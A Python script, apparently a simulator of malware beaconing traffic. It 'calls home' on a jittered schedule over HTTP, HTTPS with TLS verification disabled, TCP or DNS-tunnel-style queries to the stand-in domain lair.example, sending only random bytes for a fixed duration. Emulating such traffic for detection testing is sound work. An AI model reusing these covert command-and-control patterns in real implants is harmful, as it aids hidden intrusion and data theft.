"""An implant that calls home: at an interval with jitter, over HTTP, TLS, bare TCP or DNS, fresh or kept connections.

`beacon.py URL SECONDS SEED --every S --jitter SHARE [--kept] [--size BYTES] [--chatty SHARE]`, URL being
http://H:P, https://H:P, tcp://H:P or dns://H.
"""

import argparse
import base64
import http.client
import os
import random
import socket
import ssl
import struct
import time
import urllib.parse


def question(name, kind=16):
    """A DNS question for `name` (TXT by default)."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return os.urandom(2) + b"\x01\x00" + struct.pack(">HHHH", 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


class Home:
    """The way home, opened when needed."""

    def __init__(self, url, kept, rng):
        self.url, self.kept, self.rng, self.end = urllib.parse.urlsplit(url), kept, rng, None

    def call(self, size, results):
        """One beat: `size` bytes of news, and `results` bytes more when an order was done."""
        {"http": self.by_web, "https": self.by_web, "tcp": self.by_tcp, "dns": self.by_dns}[self.url.scheme](size, results)
        if not self.kept:
            self.close()

    def by_web(self, size, results):
        """GET for orders; POST with results."""
        if self.end is None:
            where = (self.url.hostname, self.url.port)
            self.end = http.client.HTTPConnection(*where, timeout=8) if self.url.scheme == "http" else \
                http.client.HTTPSConnection(*where, timeout=8, context=ssl._create_unverified_context())
        self.end.request("GET", "/" + "n" * self.rng.randint(4, 30), headers={"Cookie": "id=" + "f" * size, "User-Agent": "Mozilla/5.0 (X11)"})
        self.end.getresponse().read()
        if results:
            self.end.request("POST", "/submit", body=os.urandom(results))
            self.end.getresponse().read()

    def by_tcp(self, size, results):
        """A crumb and its answer."""
        if self.end is None:
            self.end = socket.create_connection((self.url.hostname, self.url.port), timeout=8)
        self.end.sendall(os.urandom(size + results))
        self.end.recv(65536)

    def by_dns(self, size, results):
        """One question a beat, several when there are results."""
        if self.end is None:
            self.end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.end.settimeout(3)
        for _ in range(1 + min(results // 100, 12)):
            label = base64.b32encode(os.urandom(min(size, 35))).decode().rstrip("=").lower()
            self.end.sendto(question(f"{label}.c.lair.example", self.rng.choice([1, 16, 16])), (self.url.hostname, self.url.port or 53))
            self.end.recv(4096)

    def close(self):
        """Lets go of the connection."""
        if self.end is not None:
            self.end.close()
            self.end = None


def main():
    """Calls home until the time is over."""
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("seconds", type=float)
    parser.add_argument("seed")
    parser.add_argument("--every", type=float, default=5.0)
    parser.add_argument("--jitter", type=float, default=0.1)
    parser.add_argument("--kept", action="store_true")
    parser.add_argument("--size", type=int, default=32)
    parser.add_argument("--chatty", type=float, default=0.05)
    options = parser.parse_args()
    rng = random.Random(options.seed)
    home, until = Home(options.url, options.kept, rng), time.monotonic() + options.seconds
    while time.monotonic() < until:
        try:
            home.call(options.size, rng.choice([300, 1500, 12_000]) if rng.random() < options.chatty else 0)
        except (OSError, http.client.HTTPException):
            home.close()
        time.sleep(min(options.every * rng.uniform(1 - options.jitter, 1 + options.jitter), max(until - time.monotonic(), 0)))
    home.close()


main()
